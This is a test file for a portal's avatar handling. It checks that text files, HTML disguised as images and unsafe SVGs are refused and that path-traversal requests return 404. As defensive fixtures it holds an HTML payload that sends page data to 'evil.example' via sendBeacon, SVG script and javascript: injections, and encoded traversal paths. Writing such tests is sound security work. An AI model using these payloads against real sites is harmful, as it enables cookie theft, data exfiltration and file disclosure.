import { cp, mkdir, mkdtemp, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { avatars, serveAvatars } from '../../src/integrations/avatars.ts';
import { ContentErrors } from '../../src/lib/content/errors.ts';
import { loadOrg } from '../../src/lib/content-check/load-org.ts';
import { minimalContent } from '../unit/content/fixture.ts';

// Issue 11: "avatars/secrets.txt is published; an SVG with <script> or onload is served from the
// portal's origin as is". Every file in avatars/ is published, so each must be an image by its
// bytes; an SVG is refused (not rewritten) when it could run script or reach another host.

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const svg = (inner: string, attributes = '') => `<svg ${NS} width="8" height="8"${attributes}>${inner}</svg>`;
const CLEAN_SVG = svg(
  '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><circle id="c" r="2"/></defs>' +
    '<rect width="8" height="8" fill="url(#g)" style="stroke: url(\'#g\')"/><use href="#c"/><use xlink:href="#c"/>' +
    '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/><style>rect { fill: url(#g); }</style>',
  ' xmlns:xlink="http://www.w3.org/1999/xlink"',
);
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);
const pad = (bytes: Buffer) => Buffer.concat([bytes, Buffer.alloc(64)]);
const JPEG = pad(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]));
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const WEBP = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
const AVIF = pad(Buffer.concat([Buffer.from([0, 0, 0, 0x1c]), Buffer.from('ftypavifmif1miafavif')]));
const HTML =
  '<!doctype html><html><body><script>fetch("/people/").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>';

const cleanups: (() => Promise<void>)[] = [];
afterAll(() => Promise.all(cleanups.map((cleanup) => cleanup())));

async function contentWithAvatar(name: string, bytes: string | Buffer) {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'portal-avatars-'));
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  await cp(minimalContent, dir, { recursive: true });
  await mkdir(path.dirname(path.join(dir, 'avatars', name)), { recursive: true });
  await writeFile(path.join(dir, 'avatars', name), bytes);
  return dir;
}

async function problems(dir: string): Promise<string[]> {
  try {
    await loadOrg(dir, dir);
    return [];
  } catch (error) {
    if (error instanceof ContentErrors) return error.errors.map((problem) => problem.message);
    throw error;
  }
}

describe('the content check refuses an avatar that is not a safe image, naming the file and the reason', () => {
  it.each<[string, string, string | Buffer, RegExp]>([
    ['a text file', 'secrets.txt', 'AWS_SECRET_ACCESS_KEY=x\n', /extension is "\.txt"/],
    ['a file with no extension', 'README', 'notes', /extension is missing/],
    ['HTML disguised as .png', 'page.png', HTML, /bytes are not a PNG image/],
    ['a JPEG named .png', 'photo.png', JPEG, /bytes are a JPG file, not the PNG image/],
    ['HTML disguised as .svg', 'page.svg', HTML, /not well-formed XML|root element is <html>/],
    ['an SVG with <script>', 'script.svg', svg('<script>alert(document.cookie)</script>'), /<script/],
    ['an SVG with a CDATA <script>', 'cdata.svg', svg('<script><![CDATA[alert(1)]]></script>'), /<script/],
    [
      'an SVG with onload',
      'onload.svg',
      svg('<rect width="8" height="8"/>', ' onload="alert(1)"'),
      /event handler onload/,
    ],
    [
      'an SVG with onclick on a child',
      'onclick.svg',
      svg('<rect width="8" height="8" onclick="alert(1)"/>'),
      /event handler onclick/,
    ],
    [
      'an SVG with <foreignObject>',
      'foreign.svg',
      svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'),
      /foreignobject/i,
    ],
    [
      'an SVG with a javascript: link',
      'jslink.svg',
      svg('<a href="javascript:alert(1)"><rect width="8" height="8"/></a>'),
      /javascript:/,
    ],
    [
      'an SVG with an entity-encoded javascript: link',
      'jsentity.svg',
      svg('<a href="&#106;ava&#x73;cript&#58;alert(1)"><rect width="8" height="8"/></a>'),
      /javascript:/,
    ],
    [
      'an SVG with a remote <image>',
      'image.svg',
      svg('<image href="https://evil.example/track.png" width="8" height="8"/>'),
      /href refers to "https:\/\/evil\.example\/track\.png"/,
    ],
    [
      'an SVG with a protocol-relative xlink:href',
      'xlink.svg',
      svg('<image xlink:href="//evil.example/t.png"/>', ' xmlns:xlink="http://www.w3.org/1999/xlink"'),
      /xlink:href refers to "\/\/evil\.example/,
    ],
    [
      'an SVG with <use href="https://...">',
      'use-remote.svg',
      svg('<use href="https://evil.example/sprite.svg#a"/>'),
      /<use> href refers to "https:/,
    ],
    [
      'an SVG with <use> of another file',
      'use-file.svg',
      svg('<use href="other.svg#a"/>'),
      /<use> href refers to "other\.svg#a"/,
    ],
    [
      'an SVG with <style> @import',
      'import.svg',
      svg('<style>@import url(https://evil.example/x.css);</style>'),
      /@import/,
    ],
    [
      'an SVG with <style> loading a remote url()',
      'style-url.svg',
      svg('<style>rect { fill: url(https://evil.example/x.svg#a) }</style>'),
      /<style> element loads url\(https:/,
    ],
    [
      'an SVG with a remote url() in an attribute',
      'fill-url.svg',
      svg('<rect width="8" height="8" fill="url(//evil.example/p.svg#a)"/>'),
      /fill loads url\(\/\/evil/,
    ],
    [
      'an SVG with a remote url() in a style attribute',
      'style-attr.svg',
      svg('<rect width="8" height="8" style="filter: url(&quot;http://evil.example/f.svg#f&quot;)"/>'),
      /style loads url\(http:/,
    ],
    [
      'an SVG with an <?xml-stylesheet?>',
      'pi.svg',
      `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`,
      /processing instruction <\?xml-stylesheet>/,
    ],
    [
      'an SVG declaring entities',
      'entity.svg',
      `<!DOCTYPE svg [<!ENTITY js "javascript:">]>${svg('<a href="&js;alert(1)"/>')}`,
      /declares XML entities/,
    ],
    [
      'an SVG animating a link target',
      'animate.svg',
      svg('<a><set attributeName="href" to="https://evil.example/"/><rect width="8" height="8"/></a>'),
      /animates href/,
    ],
    [
      'an SVG setting xml:base',
      'base.svg',
      svg('<use href="#a"/>', ' xml:base="https://evil.example/"'),
      /xml:base/,
    ],
    ['an SVG whose root is <html>', 'html-root.svg', `<html ${NS}><svg/></html>`, /root element is <html>/],
    ['an SVG that is not well-formed', 'broken.svg', '<svg><rect></svg>', /not well-formed XML/],
    [
      'an SVG that is not UTF-8',
      'latin1.svg',
      Buffer.from([0x3c, 0x73, 0x76, 0x67, 0xff, 0xfe, 0x3e]),
      /not UTF-8/,
    ],
  ])('%s (avatars/%s) is refused', async (_case, name, bytes, reason) => {
    const messages = await problems(await contentWithAvatar(name, bytes));
    expect(messages, messages.join('\n')).toHaveLength(1);
    expect(messages[0]).toMatch(
      new RegExp(`^avatars/${name.replace(/\./g, '\\.')}: is not published as an avatar: `),
    );
    expect(messages[0]).toMatch(reason);
  });

  it.each<[string, string, string | Buffer]>([
    ['a clean SVG with local gradients, <use href="#..."> and a data: raster', 'clean.svg', CLEAN_SVG],
    [
      'an SVG with an XML declaration, a comment and a public DOCTYPE',
      'exported.svg',
      `<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: editor -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg('<rect width="8" height="8"/>')}`,
    ],
    ['a real PNG', 'photo.png', PNG],
    ['a JPEG named .jpg', 'photo.jpg', JPEG],
    ['a JPEG named .jpeg in a subfolder', 'icons/photo.jpeg', JPEG],
    ['a GIF', 'icon.gif', GIF],
    ['a WebP', 'icon.webp', WEBP],
    ['an AVIF', 'icon.avif', AVIF],
  ])('%s (avatars/%s) passes', async (_case, name, bytes) => {
    expect(await problems(await contentWithAvatar(name, bytes))).toEqual([]);
  });

  it('every avatar of the sample organisation passes', async () => {
    const org = await loadOrg(path.resolve('content'));
    expect(org.people.some((person) => person.data.photo)).toBe(true);
  });
});

describe('the avatars build step writes nothing that is not a checked image', () => {
  const logger = { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} };
  it.each<[string, string | Buffer]>([
    ['secrets.txt', 'AWS_SECRET_ACCESS_KEY=x\n'],
    ['page.png', HTML],
    ['script.svg', svg('<script>alert(1)</script>')],
  ])('avatars/%s fails the build step naming it, and dist/ gets no avatars', async (name, bytes) => {
    const dir = await contentWithAvatar(name, bytes);
    const out = path.join(dir, '..', `${path.basename(dir)}-dist`);
    cleanups.push(() => rm(out, { recursive: true, force: true }));
    const hook = avatars(dir).hooks['astro:build:done']!;
    const error = await Promise.resolve(hook({ dir: pathToFileURL(`${out}/`), logger } as never)).catch(
      (e: unknown) => e,
    );
    expect(String((error as Error).message)).toContain(`avatars/${name}: is not published as an avatar`);
    expect(await readdir(out).catch(() => [])).toEqual([]);
  });
});

describe('serveAvatars (dev middleware) on a real server: only checked images, never outside', () => {
  let url: URL;
  let close: () => Promise<void>;
  beforeAll(async () => {
    const work = await mkdtemp(path.join(os.tmpdir(), 'portal-avatars-dev-'));
    const folder = path.join(work, 'content', 'avatars');
    await mkdir(path.join(folder, 'icons'), { recursive: true });
    await mkdir(path.join(work, 'outside'));
    await writeFile(path.join(folder, 'kato-ken.svg'), CLEAN_SVG);
    await writeFile(path.join(folder, 'photo.png'), PNG);
    await writeFile(path.join(folder, 'secrets.txt'), 'secret');
    await writeFile(path.join(folder, 'page.png'), HTML);
    await writeFile(path.join(folder, 'evil.svg'), svg('<script>alert(1)</script>'));
    await writeFile(path.join(folder, '.hidden.svg'), CLEAN_SVG);
    await writeFile(path.join(work, 'content', 'secret.svg'), CLEAN_SVG);
    await writeFile(path.join(work, 'outside', 'x.svg'), CLEAN_SVG);
    await symlink(path.join(work, 'outside', 'x.svg'), path.join(folder, 'link.svg'));
    await symlink(path.join(work, 'outside'), path.join(folder, 'linked-dir'));
    const middleware = serveAvatars(folder, '/portal/');
    const server = createServer((req, res) =>
      middleware(req, res, () => {
        res.writeHead(404);
        res.end('next');
      }),
    );
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    close = async () => {
      await new Promise((resolve) => server.close(resolve));
      await rm(work, { recursive: true, force: true });
    };
  });
  afterAll(() => close());

  // Raw paths on purpose: fetch() would resolve `..` and percent-escapes before sending.
  const send = (rawPath: string, method = 'GET') =>
    new Promise<{ status: number; headers: Record<string, unknown>; body: string }>((resolve, reject) => {
      const req = request({ host: url.hostname, port: url.port, path: rawPath, method }, (res) => {
        let body = '';
        res.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      });
      req.on('error', reject);
      req.end();
    });

  it.each([
    ['/avatars/../secret.svg', 'a `..` segment'],
    ['/avatars/%2e%2e/secret.svg', 'a percent-encoded `..` segment'],
    ['/avatars/%2E%2E%2Fsecret.svg', 'an encoded `../` in one segment'],
    ['/avatars/icons/..%2F..%2Fsecret.svg', 'encoded `../../` below a subfolder'],
    ['/avatars/..%5Csecret.svg', 'an encoded backslash'],
    ['/avatars/%00kato-ken.svg', 'an encoded NUL'],
    ['/avatars/link.svg', 'a file link to outside'],
    ['/avatars/linked-dir/x.svg', 'a folder link to outside'],
    ['/avatars/secrets.txt', 'a non-image'],
    ['/avatars/page.png', 'HTML disguised as .png'],
    ['/avatars/evil.svg', 'an SVG with script'],
    ['/avatars/.hidden.svg', 'a dot file'],
  ])('%s (%s) goes to the next handler (404), serving nothing', async (rawPath) => {
    const response = await send(rawPath);
    expect(response.status).toBe(404);
    expect(response.body).toBe('next');
  });

  it.each([
    ['/portal/avatars/kato-ken.svg', 'image/svg+xml'],
    ['/avatars/photo.png', 'image/png'],
  ])('%s is served as %s with nosniff and a policy that runs no script', async (rawPath, type) => {
    const response = await send(rawPath);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe(type);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toMatch(/script-src 'none'/);
    expect(response.headers['content-security-policy']).toMatch(/default-src 'none'/);
  });

  it('HEAD answers the headers without the body', async () => {
    const response = await send('/avatars/kato-ken.svg', 'HEAD');
    expect([response.status, response.body]).toEqual([200, '']);
  });
});
